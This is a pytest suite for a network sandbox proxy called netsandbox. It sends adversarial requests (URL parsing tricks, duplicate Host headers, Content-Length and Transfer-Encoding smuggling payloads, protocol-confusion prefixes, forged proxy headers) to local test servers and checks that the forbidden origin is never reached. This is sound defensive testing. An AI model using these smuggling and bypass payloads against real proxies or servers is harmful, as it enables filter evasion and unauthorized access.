"""Section B of the catalogue: the HTTP of the mixed door, and of plain connections, against the real product.

Each test asks for a forbidden origin in some roundabout way and, in the same session, for the allowed one in the
straight way. The forbidden canary must hear nothing; the allowed one must be reached.
"""

from __future__ import annotations

import os
import socket
import subprocess
import time
from dataclasses import dataclass
from typing import Any

import pytest

from tests.rig.inside import Attack, attack, program

pytestmark = pytest.mark.usefixtures("user_namespaces")


@dataclass
class World:
    """An origin that is allowed as allowed.test, and one that no name leads to legally."""

    good: Any
    bad: Any
    authority: Any
    netsandbox: Any

    @property
    def options(self) -> list[str]:
        rules = ["--allow-domain", f"allowed.test:{self.good.port}", "--allow-domain", f"other.test:{self.good.port}"]
        # Both addresses pass the address guard, so a denial below is the policy's or the door's, never the guard's.
        rules += ["--allow-address", f"127.0.0.1:{self.good.port}", "--allow-address", f"127.0.0.1:{self.bad.port}"]
        return [*rules, "--upstream-dns", self.authority.address]

    def attack(self, script: str, **arguments: Any) -> Attack:
        ports = {"good": self.good.port, "bad": self.bad.port}
        return attack(self.netsandbox, self.options, script, arguments={**ports, **arguments})


@pytest.fixture
def world(netsandbox: Any, canary: Any, authority: Any) -> World:
    authority.answer("*.test", "127.0.0.1")
    return World(canary.http(body=b"reached"), canary.http(body=b"stolen"), authority, netsandbox)


def test_a_denied_request_is_told_why_and_that_retrying_is_useless(world: World) -> None:
    tried = world.attack('out["reply"] = get(b"denied.test", bad, b"/secret?token=1")')
    head, _, body = tried.out["reply"].partition("\r\n\r\n")
    fields = dict(line.lower().split(": ", 1) for line in head.split("\r\n")[1:])
    assert head.startswith("HTTP/1.1 403 ")
    assert fields["x-netsandbox-reason"] == "not-allowed"
    assert fields["connection"] == "close"
    assert int(fields["content-length"]) == len(body)
    assert body.count("\n") == 1
    assert "denied.test" in body
    assert "not-allowed" in body
    assert f"--allow-domain denied.test:{world.bad.port}" in body
    assert "etry" in body
    assert "secret" not in body
    assert world.bad.accepts == 0
    (record,) = tried.denied(host="denied.test")
    assert record["hint"] == f"--allow-domain denied.test:{world.bad.port}"


@pytest.mark.attack(10)
@pytest.mark.attack(11)
@pytest.mark.attack(37)
def test_10_11_37_one_parser_reads_the_target_and_odd_ones_are_refused(world: World) -> None:
    targets = [
        "http://allowed.test:{good}@denied.test:{bad}/",
        "http://allowed.test@denied.test:{bad}/",
        "http://allowed.test:{good}#@denied.test:{bad}/",
        "http://denied.test:{bad}#@allowed.test:{good}/",
        "http://allowed.test:{good}\\@denied.test:{bad}/",
        "http://denied.test:{bad}\\.allowed.test:{good}/",
        "http:///denied.test:{bad}/",
        "http:denied.test:{bad}/",
        "http:/denied.test:{bad}/",
        "http://denied.test:{bad};allowed.test:{good}/",
        "ht\ttp://denied.test:{bad}/",
        "http://[::1:{bad}/",
        "http://[allowed.test]:{good}/",
        "ftp://allowed.test:{good}/",
        "https://allowed.test:{good}/",
        "file:///etc/passwd",
        "gopher://allowed.test:{good}/",
        "//denied.test:{bad}/",
        "denied.test:{bad}",
        "http://",
        "*",
        "/",
    ]
    ports = {"good": world.good.port, "bad": world.bad.port}
    script = """
# HTTP/1.0 needs no Host, so nothing but the target is judged.
def asked(target, method=b"GET"):
    return status(say(method + b" " + target + b" HTTP/1.0\\r\\n\\r\\n"))
out["codes"] = [asked(text.encode()) for text in targets]
out["userinfo"] = asked(b"allowed.test@denied.test:%d" % bad, b"CONNECT")
out["twin"] = asked(b"http://allowed.test:%d/" % good)
"""
    tried = world.attack(script, targets=[target.format(**ports) for target in targets])
    assert all(400 <= code < 500 for code in tried.out["codes"]), list(zip(targets, tried.out["codes"], strict=True))
    assert tried.out["userinfo"] == 400
    assert tried.out["twin"] == 200
    assert (world.bad.accepts, world.good.accepts) == (0, 1)


@pytest.mark.attack(21)
@pytest.mark.attack(22)
@pytest.mark.attack(23)
@pytest.mark.attack(24)
def test_21_to_24_no_second_name_beside_the_one_decided_on(world: World) -> None:
    script = r"""
def request(target, *fields, method=b"GET"):
    lines = [method + b" " + target + b" HTTP/1.1", *fields, b"Connection: close"]
    return b"\r\n".join(lines) + b"\r\n\r\n"

url = b"http://allowed.test:%d/" % good
ours, theirs = b"allowed.test:%d" % good, b"denied.test:%d" % bad
out["absolute"] = [status(say(request(url, *fields))) for fields in (
    [b"Host: " + theirs], [b"Host: denied.test"], [b"Host: other.test:%d" % good],
    [b"Host: " + ours, b"Host: " + theirs], [b"Host: " + theirs, b"Host: " + ours],
    [b"Host: " + ours, b"Host: " + ours], [b"Host : " + ours],
    [b"Host: " + ours + b"\r\n " + theirs], [b"Host: " + ours + b", " + theirs], [b"Host:"], [b"Host: allowed.test:1"],
)]
out["connect"] = [status(say(request(ours, *fields, method=b"CONNECT"))) for fields in (
    [b"Host: " + theirs], [b"Host: denied.test"], [b"Host: " + ours, b"Host: " + theirs], [b"Host: allowed.test:1"],
)]
where = (address(b"allowed.test"), good)
out["transparent"] = [status(say(request(b"/", *fields), where)) for fields in (
    [b"Host: " + theirs], [b"Host: denied.test"], [b"Host: other.test:%d" % good],
    [b"Host: " + ours, b"Host: " + theirs],
)]
out["transparent"].append(status(say(request(b"http://" + theirs + b"/"), where)))
out["twins"] = [status(say(request(url, b"Host: " + ours))), status(say(request(b"/", b"Host: " + ours), where)),
    status(say(request(b"/", b"Host: allowed.test"), where)),
    status(say(request(url, b"Host: ALLOWED.test.:%d" % good)))]
def tunnelled(head):
    sock, reply = connect(b"allowed.test", good)
    sock.sendall(head)
    return status(rest(sock))
out["tunnel"] = [tunnelled(request(b"/", b"Host: " + theirs)), tunnelled(request(b"/", b"Host: other.test"))]
out["twins"].append(tunnelled(request(b"/", b"Host: " + ours)))
"""
    tried = world.attack(script)
    assert all(400 <= code < 500 for code in tried.out["absolute"]), tried.out["absolute"]
    assert all(400 <= code < 500 for code in tried.out["connect"]), tried.out["connect"]
    assert all(400 <= code < 500 for code in tried.out["transparent"]), tried.out["transparent"]
    assert all(400 <= code < 500 for code in tried.out["tunnel"]), tried.out["tunnel"]
    assert set(tried.out["twins"]) == {200}
    assert world.bad.accepts == 0
    assert b"denied" not in world.good.received
    assert b"other.test" not in world.good.received
    assert tried.denied(reason="host-mismatch")


@pytest.mark.attack(22)
@pytest.mark.attack(56)
def test_22_56_no_odd_beginning_makes_a_request_look_like_something_else(world: World) -> None:
    """A lenient server reads these as requests, so they must not pass as opaque bytes with another Host in them."""
    script = r"""
where = (address(b"allowed.test"), good)
rest_of_it = b" / HTTP/1.1\r\nHost: denied.test\r\n\r\n"
starts = [before + b"GET" for before in (b"", b"\r\n", b"\n", b"\r\n\r\n", b" ", b"\t", b"\x0b", b"\x0c", b"\r")]
starts += [b"get", b"Get", b"FOO", b"M-SEARCH", b"X" * 40, b"PROPFIND", b"PATCH"]
def slowly(data):
    with dial(where) as sock:
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        try:
            for at in range(len(data)):
                sock.sendall(data[at : at + 1])
        except OSError:
            pass
        return rest(sock)
out["whole"] = [status(say(start + rest_of_it, where)) for start in starts]
out["bytewise"] = [status(slowly(start + rest_of_it)) for start in starts]
out["tab"] = status(say(b"GET\t/\tHTTP/1.1\r\nHost: denied.test\r\n\r\n", where))
def tunnelled(data):
    sock, head = connect(b"allowed.test", good)
    sock.sendall(data)
    return status(rest(sock))
out["tunnel"] = [tunnelled(start + rest_of_it) for start in starts]
ours = b" / HTTP/1.1\r\nHost: allowed.test:%d\r\nConnection: close\r\n\r\n" % good
out["twins"] = [status(say(b"GET" + ours, where)), status(slowly(b"GET" + ours)), tunnelled(b"FOO" + ours)]
"""
    tried = world.attack(script)
    assert 200 not in tried.out["whole"] + tried.out["bytewise"] + tried.out["tunnel"] + [tried.out["tab"]]
    assert b"denied" not in world.good.received
    assert tried.out["twins"] == [200, 200, 200]


@pytest.mark.attack(25)
@pytest.mark.attack(26)
def test_25_26_every_request_of_a_connection_is_decided_on_its_own(world: World) -> None:
    script = r"""
def request(host, port, body=b""):
    where = b"%s:%d" % (host, port)
    head = b"POST http://%s/ HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\n\r\n" % (where, where, len(body))
    return head + body

def conversation(*parts, pause=0.0):
    codes = []
    with dial() as sock:
        try:
            for part in parts:
                sock.sendall(part)
                if pause:
                    codes.append(status(until(sock, b"\r\n\r\n")))
        except OSError:
            pass
        sock.shutdown(socket.SHUT_WR)
        return codes or [int(word.split(b" ")[1]) for word in rest(sock).split(b"HTTP/1.1")[1:]]

ok, no = request(b"allowed.test", good), request(b"denied.test", bad)
out["reuse"] = conversation(ok, no, pause=1)
out["origin_form"] = conversation(ok, b"GET / HTTP/1.1\r\nHost: denied.test:%d\r\n\r\n" % bad, pause=1)
out["pipelined"] = conversation(ok + no)
out["denied_first"] = conversation(request(b"denied.test", bad, b"x" * 10 + ok) + ok)
out["smuggled_body"] = conversation(request(b"allowed.test", good, no))
out["two_hosts"] = conversation(request(b"allowed.test", good), request(b"other.test", good), pause=1)
"""
    tried = world.attack(script)
    assert tried.out["reuse"] == [200, 403]
    assert tried.out["origin_form"][0] == 200
    assert tried.out["origin_form"][1] in (400, 421)
    assert tried.out["pipelined"] == [200, 403]
    assert tried.out["denied_first"] == [403]
    assert tried.out["smuggled_body"] == [200]
    assert tried.out["two_hosts"] == [200, 200]
    assert world.bad.accepts == 0
    # The server's connection was not used again for another name, though both names have one address.
    for visit in world.good.visits:
        assert not (b"Host: allowed.test" in visit.data and b"Host: other.test" in visit.data)


@pytest.mark.attack(27)
@pytest.mark.attack(28)
@pytest.mark.attack(29)
def test_27_28_29_a_body_that_two_parsers_could_read_differently_is_refused(world: World) -> None:
    fields = [
        "Content-Length: 1\r\nContent-Length: 2",
        "Content-Length: 5\r\nContent-Length: 5",
        "Content-Length: 1, 1",
        "Content-Length: +1",
        "Content-Length: 0x1",
        "Content-Length: -1",
        "Content-Length: 1 1",
        "Content-Length: 99999999999999999999999",
        "Content-Length: \t",
        "Content-Length: 5\r\nTransfer-Encoding: chunked",
        "Transfer-Encoding: chunked\r\nContent-Length: 5",
        "Transfer-Encoding : chunked",
        "Transfer-Encoding: chunked, identity",
        "Transfer-Encoding: identity, chunked",
        "Transfer-Encoding: xchunked",
        "Transfer-Encoding:\x0bchunked",
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
        "Transfer-Encoding: identity",
        "Transfer-Encoding:\r\n chunked",
        "Foo: bar\nTransfer-Encoding: chunked",
    ]
    chunks = [
        "5\nhello\r\n0\r\n\r\n",
        "-1\r\n\r\n",
        "fffffffffffffffff\r\n",
        "5;a=\r\n\nb\r\nhello\r\n0\r\n\r\n",
        "0x5\r\nhello",
    ]
    chunks += [" 5\r\nhello\r\n0\r\n\r\n", "5 \r\nhello\r\n0\r\n\r\n", "5\r\nhelloX0\r\n\r\n", "\r\n0\r\n\r\n"]
    chunks += ["0\r\nHost: denied.test\r\n\r\n"]
    script = r"""
def post(version, field, body=b""):
    start = b"POST http://allowed.test:%d/ HTTP/%s\r\nHost: allowed.test:%d\r\n" % (good, version, good)
    return say(start + field.encode("latin-1") + b"\r\n\r\n" + body, timeout=6)

smuggled = b"GET http://denied.test:%d/ HTTP/1.1\r\nHost: denied.test:%d\r\n\r\n" % (bad, bad)
out["lengths"] = [status(post(b"1.1", field, b"0\r\n\r\n" + smuggled)) for field in fields]
out["old"] = status(post(b"1.0", "Transfer-Encoding: chunked", b"0\r\n\r\n" + smuggled))
replies = [post(b"1.1", "Transfer-Encoding: chunked\r\nConnection: close", body.encode("latin-1")) for body in chunks]
out["chunks"] = [status(reply) for reply in replies]
out["twin"] = status(post(b"1.1", "Transfer-Encoding: chunked\r\nConnection: close", b"5\r\nhello\r\n0\r\n\r\n"))
"""
    tried = world.attack(script, fields=fields, chunks=chunks)
    assert all(400 <= code < 500 for code in tried.out["lengths"]), list(zip(fields, tried.out["lengths"], strict=True))
    assert tried.out["old"] == 400
    # A chunk is judged when the head is already on its way: the client gets an error or a closed connection, the origin
    # an incomplete message, and never a second request.
    assert world.bad.accepts == 0
    assert b"denied.test" not in world.good.received
    assert world.good.accepts >= 1
    assert tried.out["twin"] == 200


@pytest.mark.attack(31)
def test_31_bytes_sent_before_the_reply_go_nowhere_when_the_answer_is_no(world: World) -> None:
    script = """
sock, head = connect(b"denied.test", bad, b"\\x16\\x03\\x01 early secret")
out["denied"] = status(head)
early = b"GET / HTTP/1.1\\r\\nHost: allowed.test:%d\\r\\nConnection: close\\r\\n\\r\\n" % good
sock, head = connect(b"allowed.test", good, early)
out["allowed"] = [status(head), b"reached" in head + rest(sock)]
"""
    tried = world.attack(script)
    assert tried.out == {"denied": 403, "allowed": [200, True]}
    assert world.bad.accepts == 0
    assert b"secret" not in world.good.received


@pytest.mark.attack(32)
def test_32_heads_have_a_limit(world: World) -> None:
    script = r"""
start = b"GET http://allowed.test:%d/ HTTP/1.1\r\nHost: allowed.test:%d\r\n" % (good, good)
out["codes"] = [status(say(data)) for data in (
    b"GET http://allowed.test:%d/" % good + b"a" * 100_000 + b" HTTP/1.1\r\n\r\n",
    start + b"".join(b"x-%d: y\r\n" % number for number in range(10_000)) + b"\r\n",
    start + b"x: " + b"y" * 1_000_000 + b"\r\n\r\n",
    start + b"x: a\0b\r\n\r\n",
    start + b"x\0: a\r\n\r\n",
    start + b": a\r\n\r\n",
    start + b" folded\r\n\r\n",
    b"a" * 300_000,
)]
out["twin"] = status(get(b"allowed.test", good))
"""
    tried = world.attack(script)
    assert all(code == 0 or 400 <= code < 500 for code in tried.out["codes"]), tried.out["codes"]
    assert tried.out["twin"] == 200
    assert world.good.accepts == 1


@pytest.mark.attack(34)
@pytest.mark.attack(51)
def test_34_51_the_first_byte_decides_the_protocol_for_good(world: World) -> None:
    script = r"""
out["h2"] = status(say(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0" * 32))
out["first"] = [say(bytes([first]) + b"CONNECT denied.test:%d HTTP/1.1\r\n\r\n" % bad, timeout=3)[:4]
    for first in (0x00, 0x04, 0x16, 0x20, 0x80, 0xff)]
with dial() as sock:
    sock.sendall(b"\x05\x01\x00CONNECT denied.test:%d HTTP/1.1\r\n\r\n" % bad)
    out["socks_then_http"] = rest(sock)[2:6]
with dial() as sock:
    sock.sendall(b"GET http://allowed.test:%d/ HTTP/1.1\r\nHost: allowed.test:%d\r\n\r\n" % (good, good))
    until(sock, b"reached")
    sock.sendall(b"\x05\x01\x00\x05\x01\x00\x03\x0bdenied.test" + struct.pack("!H", bad) + b"\r\n\r\n")
    out["http_then_socks"] = status(rest(sock))
upgrade = b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n"
out["h2c"] = status(get(b"allowed.test", good, extra=upgrade.replace(b"Connection: Upgrade, HTTP2-Settings\r\n", b"")))
"""
    tried = world.attack(script)
    assert tried.out["h2"] in (0, 400, 505)
    assert all(reply == "" for reply in tried.out["first"])
    assert not tried.out["socks_then_http"].startswith("\x00\x00")
    assert tried.out["http_then_socks"] in (0, 400)
    assert tried.out["h2c"] == 200
    assert world.bad.accepts == 0
    assert b"h2c" not in world.good.received.lower()
    assert b"http2-settings" not in world.good.received.lower()


@pytest.mark.attack(35)
def test_35_a_websocket_is_checked_as_any_request_and_opaque_after_101(
    netsandbox: Any, canary: Any, authority: Any
) -> None:
    def upgrade(stream: socket.socket, visit: Any) -> None:
        while b"\r\n\r\n" not in visit.data:
            visit.data += stream.recv(65536)
        stream.sendall(b"HTTP/1.1 101 Switching\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n")
        frame = stream.recv(64)
        visit.data += frame
        stream.sendall(b"echo:" + frame)

    server = canary.tcp(script=upgrade)
    authority.answer("*.test", "127.0.0.1")
    script = r"""
def websocket(host):
    with dial() as sock:
        where = host + b":%d" % port
        sock.sendall(b"GET http://" + where + b"/ HTTP/1.1\r\nHost: " + where + b"\r\nConnection: Upgrade\r\n"
            b"Upgrade: websocket\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\n\r\n")
        head = until(sock, b"\r\n\r\n")
        if status(head) != 101:
            return [status(head), b""]
        sock.sendall(b"\x81\x05hello")
        return [101, rest(sock)]

out["allowed"], out["denied"] = websocket(b"allowed.test"), websocket(b"denied.test")
"""
    options = ["--allow-domain", f"allowed.test:{server.port}", "--allow-address", f"127.0.0.1:{server.port}"]
    options += ["--upstream-dns", authority.address]
    tried = attack(netsandbox, options, script, arguments={"port": server.port})
    assert tried.out["allowed"] == [101, "echo:\x81\x05hello"]
    assert tried.out["denied"][0] == 403
    assert server.accepts == 1


@pytest.mark.attack(36)
@pytest.mark.attack(43)
def test_36_43_what_an_origin_answers_is_passed_on_never_followed_or_trusted(
    netsandbox: Any, canary: Any, authority: Any
) -> None:
    bad = canary.http(body=b"stolen")
    answers = {
        "redirect": b"HTTP/1.1 302 Go\r\nLocation: http://denied.test:%d/\r\nContent-Length: 0\r\n\r\n" % bad.port,
        "garbage": b"\x00\xff\x13 no http at all \r\n\r\n",
        "early close": b"HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\nshort",
        "two lengths": b"HTTP/1.1 200 OK\r\nContent-Length: 1\r\nContent-Length: 5\r\n\r\nabcde",
        "many interim": b"HTTP/1.1 102 Wait\r\n\r\n" * 200 + b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok",
        "endless head": b"HTTP/1.1 200 OK\r\n" + b"x: y\r\n" * 200_000,
        "second answer": b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"
        b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nextra",
        "nothing": b"",
    }

    def script_for(answer: bytes) -> Any:
        def speak(stream: socket.socket, visit: Any) -> None:
            while b"\r\n\r\n" not in visit.data:
                data = stream.recv(65536)
                if not data:
                    return
                visit.data += data
            stream.sendall(answer)

        return speak

    ports = {name: canary.tcp(script=script_for(answer)).port for name, answer in answers.items()}
    good = canary.http(body=b"reached")
    authority.answer("*.test", "127.0.0.1")
    script = r"""
out["replies"] = {name: get(b"allowed.test", port)[:2000] for name, port in ports.items()}
with dial() as sock:
    for port in (ports["second answer"], good):
        sock.sendall(b"GET http://allowed.test:%d/ HTTP/1.1\r\nHost: allowed.test:%d\r\n\r\n" % (port, port))
        last = until(sock, b"reached" if port == good else b"ok")
    out["next"] = last
out["alive"] = get(b"allowed.test", good)
"""
    options = [
        "--allow-domain",
        "allowed.test:*",
        "--allow-address",
        "127.0.0.1:*",
        "--upstream-dns",
        authority.address,
    ]
    tried = attack(netsandbox, options, script, arguments={"ports": ports, "good": good.port})
    replies = tried.out["replies"]
    assert replies["redirect"].startswith("HTTP/1.1 302")
    for name in ("garbage", "two lengths", "endless head", "nothing"):
        assert replies[name].startswith("HTTP/1.1 502"), (name, replies[name][:200])
    assert "extra" not in replies["second answer"]
    assert "extra" not in tried.out["next"]
    assert "reached" in tried.out["alive"]
    assert bad.accepts == 0


@pytest.mark.attack(38)
@pytest.mark.attack(39)
def test_38_39_headers_meant_for_a_proxy_reach_neither_a_socket_nor_the_origin(world: World, canary: Any) -> None:
    local = canary.unix()
    extra = (
        f"X-Unix-Socket: {local.path}\r\nProxy-Authorization: Basic c2VjcmV0OnRva2Vu\r\n"
        "Proxy-Connection: keep-alive\r\n"
        "X-Netsandbox-Session: forged\r\nX-Forwarded-Host: denied.test\r\n"
    )
    script = """
out["allowed"] = status(get(b"allowed.test", good, extra=extra.encode()))
out["denied"] = status(get(b"denied.test", bad, extra=extra.encode()))
"""
    tried = world.attack(script, extra=extra)
    assert tried.out == {"allowed": 200, "denied": 403}
    seen = world.good.received.lower()
    for word in (b"proxy-", b"c2vjcmv0", b"x-netsandbox", b"x-unix-socket"):
        assert word not in seen
    assert local.accepts == 0
    assert "c2VjcmV0" not in tried.run.log_path.read_text()


@pytest.mark.attack(40)
def test_40_the_doors_do_not_lead_to_themselves(netsandbox: Any, canary: Any) -> None:
    server = canary.http(body=b"reached")
    script = """
hosts = (b"127.0.0.1", b"localhost", b"[::1]", b"0.0.0.0", b"[::]")
out["codes"] = [status(connect(host, 1008)[1]) for host in hosts]
own = [name.encode() for name in os.environ["HOST_ADDRESSES"].split()]
out["own"] = [reason(connect(host, 1008)[1]) for host in own]
sock, head = connect(b"127.0.0.1", port)
out["twin"] = status(head)
"""
    addresses = {info[4][0] for info in socket.getaddrinfo(socket.gethostname(), None, socket.AF_INET)}
    options = ["--allow-domain", "allowed.test", "--allow-address", f"127.0.0.1:{server.port}"]
    env = {"HOST_ADDRESSES": " ".join(sorted(map(str, addresses)))}
    tried = attack(netsandbox, options, script, arguments={"port": server.port}, env=env)
    assert set(tried.out["codes"]) == {403}
    assert set(tried.out["own"]) <= {"address-guard", "address-literal"}
    assert tried.out["twin"] == 200


@pytest.mark.attack(41)
def test_41_a_relay_inside_the_session_gives_no_other_verdict(world: World) -> None:
    script = r"""
listener = socket.create_server(("127.0.0.1", 0))
def relay():
    for _ in range(2):
        client, _ = listener.accept()
        with client, dial() as door:
            door.sendall(client.recv(65536))
            client.sendall(until(door, b"\r\n\r\n"))
threading.Thread(target=relay, daemon=True).start()
def through(host, port):
    return status(say(b"CONNECT %s:%d HTTP/1.0\r\n\r\n" % (host, port), listener.getsockname()))
out["denied"], out["allowed"] = through(b"denied.test", bad), through(b"allowed.test", good)
"""
    tried = world.attack(script)
    assert tried.out == {"denied": 403, "allowed": 200}
    assert world.bad.accepts == 0


@pytest.mark.attack(41)
def test_41_a_session_inside_a_session_is_no_way_round(netsandbox: Any) -> None:
    inner = [netsandbox.python, "-m", "netsandbox", "run", "--online", "--", "true"]
    run = netsandbox("run", "--allow-domain", "allowed.test", "--", *inner)
    assert run.returncode != 0
    assert "netsandbox: " in run.stderr


@pytest.mark.attack(44)
def test_44_clients_that_leave_at_any_moment_leak_nothing(world: World) -> None:
    script = r"""
def leave(data, *, reset):
    sock = dial()
    sock.sendall(data)
    if reset:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    sock.close()

head = b"GET http://allowed.test:%d/ HTTP/1.1\r\nHost: allowed.test:%d\r\n" % (good, good)
whole = b"CONNECT allowed.test:%d HTTP/1.1\r\n\r\n" % good
for number in range(100):
    for data in (head[:20], head, head + b"Content-Length: 9\r\n\r\nabc", whole, whole + b"GET / HTTP", b"\x05\x01"):
        leave(data, reset=number % 2 == 0)
out["twin"] = status(get(b"allowed.test", good))
print("ready", flush=True)
sys.stdin.read()
"""
    ports = {"good": world.good.port, "bad": world.bad.port}
    command = program(world.netsandbox, script, ports)
    running = world.netsandbox.spawn("run", *world.options, "--", *command, stdin=subprocess.PIPE)
    running.read_until(b"ready", timeout=60)
    descriptors = wait_for_few_descriptors(running.pid)
    assert descriptors < 40, f"{descriptors} descriptors are still open in the supervisor"
    running.process.stdin.close()
    running.read_until(b'{"twin": 200}')
    assert running.wait() == 0


def wait_for_few_descriptors(pid: int) -> int:
    """The supervisor's open descriptors once its flows have ended."""
    deadline = time.monotonic() + 15
    while (count := len(os.listdir(f"/proc/{pid}/fd"))) >= 40 and time.monotonic() < deadline:
        time.sleep(0.2)
    return count
